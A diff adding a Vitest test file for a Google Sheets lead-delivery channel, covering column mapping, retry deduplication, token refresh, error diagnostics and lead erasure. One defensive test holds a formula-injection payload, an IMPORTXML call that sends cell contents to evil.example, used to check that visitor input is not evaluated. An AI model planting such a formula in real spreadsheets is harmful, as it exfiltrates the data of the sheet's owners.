@@ -1,0 +1,276 @@
+import { describe, expect, it } from 'vitest';
+import {
+  type Clock,
+  type MessageLeads,
+  realClock,
+} from '../../server/delivery/channels/Channel.ts';
+import { sheets } from '../../server/delivery/channels/sheets.ts';
+import { findChannelFaults, readDeliveryConfig } from '../../server/delivery/channels.ts';
+import type { ReceivedCall } from '../support/receivers.ts';
+import { storedLead } from '../support/sampleLead.ts';
+import { startSheets } from '../support/vendors/googleSheets.ts';
+
+const never = new AbortController().signal;
+const noon = new Date('2026-11-25T12:00:00.000Z');
+const clock: Clock = { ...realClock, now: () => noon };
+
+const setupOf = (env: Record<string, string>) => {
+  const setup = readDeliveryConfig(env)?.['sheets'];
+  return setup as ReturnType<typeof sheets.read>;
+};
+
+/** A channel opened anew for each message, as after a restart: so no test waits for the pace. */
+const deliver = async (
+  { env }: { env: Record<string, string> },
+  leads: MessageLeads = [storedLead()],
+) => (await sheets.open(setupOf(env), clock))(leads, never);
+
+const delivered = { kind: 'delivered' };
+const titles = [
+  ...['Protocolo', 'Nº', 'Recebido em', 'Nome', 'Telefone', 'E-mail', 'Empresa', 'Plataforma'],
+  ...['Mensagem', 'Carrinhos abandonados por mês', 'Valor médio', 'Receita potencial por mês'],
+  ...['Formulário', 'Página', 'Versão do aviso de privacidade', 'Repete o Nº', 'Origem'],
+  'Entrou por',
+];
+
+const second = storedLead({ id: 8, protocol: 'D0D0-0001', name: 'Bia' });
+
+const isOf = (path: string) => (call: ReceivedCall) => call.url.includes(path);
+
+describe('the sheet', () => {
+  it('gets its titles once, then a row for each lead, the oldest first', async () => {
+    const vendor = await startSheets();
+    const first = storedLead({ abandoned_carts: 1200, average_value: 1499.9 });
+    expect(await deliver(vendor, [second, first])).toEqual(delivered);
+    expect(await deliver(vendor, [storedLead({ id: 9, protocol: 'D0D0-0002' })])).toEqual(
+      delivered,
+    );
+    expect(vendor.grid[0]).toEqual(titles);
+    expect(vendor.grid.map((row) => row[0])).toEqual([
+      'Protocolo',
+      'C7F3-A91D',
+      'D0D0-0001',
+      'D0D0-0002',
+    ]);
+    expect(vendor.grid[1]).toEqual([
+      ...['C7F3-A91D', 7, '21/11/2026 09:05:07', 'Ana Conceição', '(11) 98765-4321'],
+      ...['ana@calcadosaurora.com.br', '', 'Via formulário rápido', '', 1200, 1499.9, ''],
+      ...['Formulário rápido', '/', '1', '', '', ''],
+    ]);
+  });
+
+  it('may have its columns moved, renamed and more of them: each value stays under its title', async () => {
+    const vendor = await startSheets();
+    vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
+    expect(await deliver(vendor)).toEqual(delivered);
+    expect(await deliver(vendor, [second])).toEqual(delivered);
+    expect(vendor.grid.slice(2)).toEqual([
+      ['', '(11) 98765-4321', '', '', 'C7F3-A91D', 'Ana Conceição'],
+      ['', '(11) 98765-4321', '', '', 'D0D0-0001', 'Bia'],
+    ]);
+  });
+
+  it('may be wider than the alphabet', async () => {
+    const vendor = await startSheets();
+    vendor.grid.push([...Array.from({ length: 27 }, (_, index) => `Coluna ${index}`), 'Protocolo']);
+    await deliver(vendor);
+    expect(await deliver(vendor)).toEqual(delivered);
+    expect(vendor.kept.get('C7F3-A91D')).toBe(1);
+  });
+
+  it.each([
+    ['has no protocols', [['Nome', 'Código'], ['Ana']], 'não tem a coluna Protocolo'],
+    ['has lost its titles', [[], ['C7F3-A91D', 7]], 'não tem a coluna Protocolo'],
+    ['begins with an untitled column', [['', 'Protocolo', 'Nome']], 'coluna A'],
+  ])('that %s gets nothing until somebody has put it right', async (_, cells, reason) => {
+    const vendor = await startSheets();
+    vendor.grid.push(...cells);
+    const outcome = await deliver(vendor);
+    expect(outcome).toMatchObject({ kind: 'failed', failure: expect.stringContaining(reason) });
+    expect(vendor.grid).toEqual(cells);
+    expect(await findChannelFaults({ sheets: setupOf(vendor.env) })).toEqual([
+      expect.stringMatching(/^SHEETS_SPREADSHEET_ID: leads wait, as /),
+    ]);
+  });
+
+  it('runs no formula that a visitor has typed', async () => {
+    const vendor = await startSheets();
+    const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
+    await deliver(vendor, [storedLead({ name: formula, notes: '+1+1' })]);
+    expect(vendor.grid[1]?.[3]).toBe(formula);
+    expect(vendor.grid[1]?.[8]).toBe('+1+1');
+  });
+});
+
+describe('a repeat', () => {
+  it('adds no row after the answer was lost', async () => {
+    const vendor = await startSheets();
+    await deliver(vendor);
+    vendor.interrupt = (response, call) =>
+      isOf(':append')(call) ? vendor.loseAnswer(response, call) : vendor.answer(response, call);
+    expect((await deliver(vendor, [second])).kind).toBe('failed');
+    expect(await deliver(vendor, [second])).toEqual(delivered);
+    expect(vendor.grid).toHaveLength(3);
+  });
+
+  it('adds what is missing of a message of several', async () => {
+    const vendor = await startSheets();
+    await deliver(vendor);
+    expect(await deliver(vendor, [second, storedLead()])).toEqual(delivered);
+    expect([...vendor.kept]).toEqual([
+      ['C7F3-A91D', 1],
+      ['D0D0-0001', 1],
+    ]);
+  });
+
+  it('is told from another lead of the same protocol by its number', async () => {
+    const vendor = await startSheets();
+    const twin = storedLead({ id: 8, name: 'Bia' });
+    await deliver(vendor);
+    await deliver(vendor, [twin]);
+    expect(await deliver(vendor, [twin, storedLead()])).toEqual(delivered);
+    expect(vendor.grid.slice(1).map((row) => row[3])).toEqual(['Ana Conceição', 'Bia']);
+  });
+
+  it('is found in a column of more than a megabyte', async () => {
+    const vendor = await startSheets();
+    const others = Array.from({ length: 90_000 }, () => ['0000-0000']);
+    vendor.grid.push(['Protocolo', 'Nome'], ...others, ['C7F3-A91D', 'Ana']);
+    expect(await deliver(vendor)).toEqual(delivered);
+    expect(vendor.grid).toHaveLength(90_002);
+  });
+
+  it('is known of a lead without protocol as well', async () => {
+    const vendor = await startSheets();
+    await deliver(vendor, [storedLead({ protocol: null })]);
+    await deliver(vendor, [storedLead({ protocol: null })]);
+    expect(vendor.grid.slice(1).map((row) => row[0])).toEqual(['lead_7_mwqd2aa9']);
+  });
+});
+
+describe('the token', () => {
+  it('is kept until shortly before its end', async () => {
+    const vendor = await startSheets();
+    let now = noon;
+    const send = await sheets.open(setupOf(vendor.env), { ...clock, now: () => now });
+    await send([storedLead()], never);
+    now = new Date(noon.getTime() + 58 * 60_000);
+    await send([second], never);
+    expect(vendor.tokens()).toBe(1);
+    now = new Date(noon.getTime() + 59 * 60_000);
+    await send([second], never);
+    expect(vendor.tokens()).toBe(2);
+  });
+
+  it('is asked for once more after 401, and then no more for this time', async () => {
+    const vendor = await startSheets();
+    const send = await sheets.open(setupOf(vendor.env), clock);
+    await send([storedLead()], never);
+    vendor.expireTokens();
+    expect(await send([second], never)).toEqual(delivered);
+    expect(vendor.tokens()).toBe(2);
+    vendor.interrupt = (response, call) =>
+      isOf('/token')(call) ? vendor.answer(response, call) : response.writeHead(401).end();
+    const outcome = await send([storedLead({ id: 9, protocol: null })], never);
+    expect(outcome).toEqual({ kind: 'failed', failure: 'HTTP 401', notBefore: null });
+    expect(vendor.tokens()).toBe(3);
+  });
+
+  it('that Google refuses to give is asked for again later: a key may be put right', async () => {
+    const vendor = await startSheets();
+    const env = { ...vendor.env, SHEETS_CLIENT_EMAIL: 'other@loja.example' };
+    const failure = 'HTTP 400 invalid_grant';
+    expect(await deliver({ env })).toEqual({ kind: 'failed', failure, notBefore: null });
+  });
+});
+
+const off =
+  '{"error":{"code":403,"status":"PERMISSION_DENIED","details":[{"reason":"SERVICE_DISABLED"}]}}';
+
+describe('a spreadsheet that Google does not open', () => {
+  it.each([
+    [403, '{}', 'failed', 'HTTP 403', 'SHEETS_SPREADSHEET_ID: the spreadsheet is not shared'],
+    [403, off, 'failed', 'HTTP 403 SERVICE_DISABLED', 'SHEETS_CLIENT_EMAIL: the Google Sheets API'],
+    [404, '{}', 'refused', 'HTTP 404', 'SHEETS_SPREADSHEET_ID: there is no such spreadsheet'],
+    [503, '', 'failed', 'HTTP 503', 'SHEETS_SPREADSHEET_ID: Google does not show'],
+  ])('with %i %s: %s, and a sentence of the doctor', async (status, body, kind, failure, line) => {
+    const vendor = await startSheets();
+    vendor.interrupt = (response, call) =>
+      isOf('/token')(call) ? vendor.answer(response, call) : response.writeHead(status).end(body);
+    expect(await deliver(vendor)).toMatchObject({ kind, failure });
+    expect(await findChannelFaults({ sheets: setupOf(vendor.env) })).toEqual([
+      expect.stringContaining(line),
+    ]);
+  });
+});
+
+it('the doctor asks for token and title, writes nothing, and names the key that is wrong', async () => {
+  const vendor = await startSheets();
+  expect(await findChannelFaults({ sheets: setupOf(vendor.env) })).toEqual([]);
+  expect(vendor.grid).toEqual([]);
+  const env = { ...vendor.env, SHEETS_CLIENT_EMAIL: 'other@loja.example' };
+  expect(await findChannelFaults({ sheets: setupOf(env) })).toEqual([
+    'SHEETS_PRIVATE_KEY: Google gives no token for it and SHEETS_CLIENT_EMAIL (HTTP 400 invalid_grant).',
+  ]);
+});
+
+it.each([
+  ['SHEETS_SPREADSHEET_ID', 'https://docs.google.com/spreadsheets/d/geheim/edit'],
+  ['SHEETS_CLIENT_EMAIL', ''],
+  ['SHEETS_PRIVATE_KEY', '-----BEGIN PRIVATE KEY-----\\ngeheim\\n-----END PRIVATE KEY-----'],
+  ['SHEETS_API_URL', 'http://sheets.geheim.example'],
+])('names %s where it is wrong', async (variable, value) => {
+  const { env } = await startSheets();
+  const read = () => readDeliveryConfig({ ...env, [variable]: value });
+  expect(read).toThrow(new RegExp(`^${variable} must be`));
+  expect(read).not.toThrow('geheim');
+});
+
+it("asks Google's own address for the token, unless another one takes its place", async () => {
+  const { env } = await startSheets();
+  const tokenOf = (url: string) => setupOf({ ...env, SHEETS_API_URL: url }).tokenUrl;
+  expect(tokenOf('')).toBe('https://oauth2.googleapis.com/token');
+  expect(tokenOf('http://proxy:8080/')).toBe('http://proxy:8080/token');
+});
+
+describe('erasing a lead', () => {
+  const erase = ({ env }: { env: Record<string, string> }, lead = storedLead()) =>
+    sheets.erase?.(setupOf(env), lead, { now: () => noon, signal: never });
+
+  it("deletes its rows wherever they stand, and no other lead's", async () => {
+    const vendor = await startSheets();
+    const twin = storedLead({ id: 8, name: 'Bia' });
+    await deliver(vendor, [second, twin, storedLead()]);
+    const [own] = vendor.grid.splice(1, 1);
+    vendor.grid.push(own ?? [], ['à mão'], own ?? []);
+    expect(await erase(vendor)).toEqual(delivered);
+    expect(vendor.grid.slice(1).map((row) => row[3])).toEqual(['Bia', 'Bia', undefined]);
+    expect(await erase(vendor)).toEqual(delivered);
+    expect(vendor.grid).toHaveLength(4);
+  });
+
+  it('has nothing to do in an empty sheet, and says where it cannot tell', async () => {
+    const vendor = await startSheets();
+    expect(await erase(vendor)).toEqual(delivered);
+    vendor.grid.push(['Nome'], ['Ana']);
+    expect(await erase(vendor)).toMatchObject({ failure: expect.stringContaining('Protocolo') });
+  });
+});
+
+it('says in no failure anything of the lead, the key or the token', async () => {
+  const vendor = await startSheets();
+  await deliver(vendor);
+  for (const path of ['/values/1:1', '/values/A:A', ':append']) {
+    for (const status of [400, 401, 403, 404, 429, 500]) {
+      vendor.interrupt = (response, call) =>
+        isOf(path)(call)
+          ? response.writeHead(status).end(JSON.stringify({ error: { message: call } }))
+          : vendor.answer(response, call);
+      const said = JSON.stringify(await deliver(vendor, [second]));
+      expect(said).toContain(`HTTP ${status}`);
+      for (const secret of ['Bia', 'calcadosaurora', 'ya29', 'planilha-1', 'PRIVATE', 'D0D0']) {
+        expect(said).not.toContain(secret);
+      }
+    }
+  }
+});
